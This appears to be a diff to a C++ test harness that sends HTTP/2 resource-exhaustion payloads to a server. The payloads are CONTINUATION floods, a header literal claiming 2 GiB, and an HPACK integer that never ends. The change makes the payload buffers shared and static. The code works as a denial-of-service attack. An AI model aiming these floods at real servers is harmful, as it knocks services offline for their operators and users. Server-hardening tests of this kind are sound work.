@@ -18,12 +18,23 @@ constexpr int kFramesOfABurst = 1500;
 constexpr int kFramesOfATick = 4;
 constexpr milliseconds kTick(10);
 
-// CONTINUATION frames, fast at first and then slowly, without end.
-void ContinueSlowly(RawConnection& connection, const std::string& payload) {
-  const std::string frame = Frame(kContinuation, 1, payload);
-  connection.Send(Repeated(frame, kFramesOfABurst));
-  while (connection.Send(Repeated(frame, kFramesOfATick))) connection.Pause(kTick);
-}
+// CONTINUATION frames, fast at first and then slowly, without end. An attack makes one of these for all its
+// connections: megabytes that each connection allocates would hold up the bystander, who lives in the same process.
+class SlowContinuation {
+ public:
+  explicit SlowContinuation(const std::string& payload)
+      : burst_(Repeated(Frame(kContinuation, 1, payload), kFramesOfABurst)),
+        tick_(Repeated(Frame(kContinuation, 1, payload), kFramesOfATick)) {}
+
+  void SendOn(RawConnection& connection) const {
+    connection.Send(burst_);
+    while (connection.Send(tick_)) connection.Pause(kTick);
+  }
+
+ private:
+  const std::string burst_;
+  const std::string tick_;
+};
 
 // A literal that claims 2 GiB: whether the fields are too long is known only when all of it has come, so it is kept;
 // and it may be copied for each piece that comes. The pieces are as small as can be once a good deal has been sent.
@@ -31,8 +42,8 @@ void LiteralOfTwoGib(RawConnection& connection) {
   const std::string beginning =
       CallFields(kPlayPath) + std::string(1, '\0') + HpackInteger(1, 7) + "a" + HpackInteger(0x7fffffff, 7);
   connection.Send(Preface() + Frame(kHeaders, 1, beginning));
-  const std::string mebibyte = Repeated(Frame(kContinuation, 1, std::string(kFrameBytes, 'x')), 64);
-  const std::string pieces = Repeated(Frame(kContinuation, 1, "x"), 700);
+  static const std::string mebibyte = Repeated(Frame(kContinuation, 1, std::string(kFrameBytes, 'x')), 64);
+  static const std::string pieces = Repeated(Frame(kContinuation, 1, "x"), 700);
   for (int i = 0; i < 2; ++i) connection.Send(mebibyte + pieces);
   while (connection.Send(Repeated(Frame(kContinuation, 1, "x"), kFramesOfATick))) connection.Pause(kTick);
 }
@@ -40,13 +51,15 @@ void LiteralOfTwoGib(RawConnection& connection) {
 // An integer with a prefix of zeros that never ends.
 void IntegerWithoutEnd(RawConnection& connection) {
   connection.Send(Preface() + Frame(kHeaders, 1, CallFields(kPlayPath) + std::string("\0\x7f", 2)));
-  ContinueSlowly(connection, std::string(1024, '\x80'));
+  static const SlowContinuation continuation(std::string(1024, '\x80'));
+  continuation.SendOn(connection);
 }
 
 // Small fields without END_HEADERS, so that no sum of them is ever checked.
 void ContinuationFlood(RawConnection& connection) {
   connection.Send(Preface() + Frame(kHeaders, 1, CallFields(kPlayPath)));
-  ContinueSlowly(connection, Repeated(HpackLiteral("name", "value"), 200));
+  static const SlowContinuation continuation(Repeated(HpackLiteral("name", "value"), 200));
+  continuation.SendOn(connection);
 }
 
 void EmptyContinuationFlood(RawConnection& connection) {
